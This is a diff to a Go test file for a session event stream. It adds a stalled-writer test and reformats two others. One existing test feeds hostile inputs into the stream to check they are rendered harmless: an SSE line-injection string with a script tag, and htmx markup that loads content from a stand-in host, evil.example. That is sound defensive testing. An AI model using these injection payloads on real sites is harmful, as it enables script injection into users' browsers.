@@ -7,6 +7,7 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -153,7 +154,10 @@ func TestAReaderFarBehindCatchesUpInOrder(t *testing.T) {
 func TestAnAnswerChangesTheRowOfItsCall(t *testing.T) {
 	s := newSite(t)
 	base := served(t, s)
-	_, ids := s.Chain(ops.NewCycle{}, "", "", apitest.Run{Tier: 1, Status: ops.SessionRunning, Lines: []string{said("x"), call("a", "sleep 9")}})
+	_, ids := s.Chain(ops.NewCycle{}, "", "", apitest.Run{
+		Tier: 1, Status: ops.SessionRunning,
+		Lines: []string{said("x"), call("a", "sleep 9")},
+	})
 	stream := follow(t, base, fmt.Sprintf("/sessions/%d/stream?after=2", ids[0]), "")
 	s.Say(ids[0], answered("a", "slept", false))
 	got := stream.until("slept")
@@ -231,7 +235,8 @@ func TestHostileOutputIsHarmlessInAStream(t *testing.T) {
 	base := served(t, s)
 	_, ids := s.Chain(ops.NewCycle{}, "", "", apitest.Run{Tier: 1, Status: ops.SessionRunning})
 	stream := follow(t, base, fmt.Sprintf("/sessions/%d/stream?after=0", ids[0]), "")
-	for _, text := range append(hostile(), "a\r\ndata: <script>\r\n\r\nevent: x", `<hx-partial hx-target="body">`, `<div hx-get="//evil.example" hx-trigger="load">`) {
+	for _, text := range append(hostile(), "a\r\ndata: <script>\r\n\r\nevent: x", `<hx-partial hx-target="body">`,
+		`<div hx-get="//evil.example" hx-trigger="load">`) {
 		s.Say(ids[0], said(text), text, call(text, text), answered(text, text, true))
 	}
 	s.Say(ids[0], said("the end."))
@@ -247,4 +252,40 @@ func TestAnUnknownSessionHasNoStream(t *testing.T) {
 			t.Errorf("%s gives %d", path, got)
 		}
 	}
+}
+
+// stalledWriter takes nothing any more once a first line of the session was written to it.
+type stalledWriter struct {
+	*httptest.ResponseRecorder
+	writes  int
+	stalled chan struct{} // closed when it takes nothing
+	free    chan struct{} // closed when it may go on
+}
+
+func (w *stalledWriter) Write(b []byte) (int, error) {
+	if w.writes++; w.writes == 2 {
+		close(w.stalled)
+		<-w.free
+	}
+	return w.ResponseRecorder.Write(b)
+}
+
+func TestAStalledReaderHoldsNobodyUp(t *testing.T) {
+	s := newSite(t)
+	_, ids := s.Chain(ops.NewCycle{}, "", "", apitest.Run{Tier: 1, Status: ops.SessionRunning, Lines: []string{said("line 1.")}})
+	path := fmt.Sprintf("/sessions/%d/stream?after=0", ids[0])
+	w := &stalledWriter{ResponseRecorder: httptest.NewRecorder(), stalled: make(chan struct{}), free: make(chan struct{})}
+	request := httptest.NewRequestWithContext(t.Context(), http.MethodGet, path, nil)
+	request.Host = "127.0.0.1"
+	var stalling sync.WaitGroup
+	stalling.Go(func() { s.handler.ServeHTTP(w, request) })
+	<-w.stalled
+	other := follow(t, served(t, s), path, "")
+	s.Say(ids[0], said("line 2."))
+	other.until("line 2.")
+	s.End(ids[0], ops.OutcomeHealthy, ops.CycleHealthy, "fine")
+	other.until("ended ")
+	close(w.free)
+	stalling.Wait()
+	mustContain(t, w.Body.String(), "line 1.", "line 2.", "event: ended")
 }
